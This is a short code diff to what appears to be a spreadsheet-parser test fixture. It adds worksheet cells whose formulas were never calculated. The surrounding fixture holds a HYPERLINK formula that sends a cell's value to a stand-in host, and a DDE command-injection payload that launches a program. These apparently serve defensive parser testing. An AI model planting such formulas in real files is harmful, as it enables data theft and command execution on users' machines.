@@ -207,7 +207,8 @@ export const ESTRANHOS = {
       '<row r="1"><c r="A1"><f>HYPERLINK("http://mau/"&amp;B1,"x")</f><v>7</v></c>' +
         celula('B1', "=cmd|' /C calc'!A0") +
         '<c r="C1" t="str"><f>CONCAT("a","b")</f><v>ab</v></c><c r="D1" t="e"><v>#N/A</v></c><c r="E1"><f>1+1</f></c>' +
-        '<c r="F1" t="str"><f>""</f><v></v></c></row>',
+        // As libraries write a formula that nobody ever calculated.
+        '<c r="F1" t="str"><f>""</f><v></v></c><c r="G1"><f>A1*2</f><v></v></c><c r="H1"><f>A1*2</f><v/></c></row>',
     ),
   formatos: () =>
     pastaXlsx({
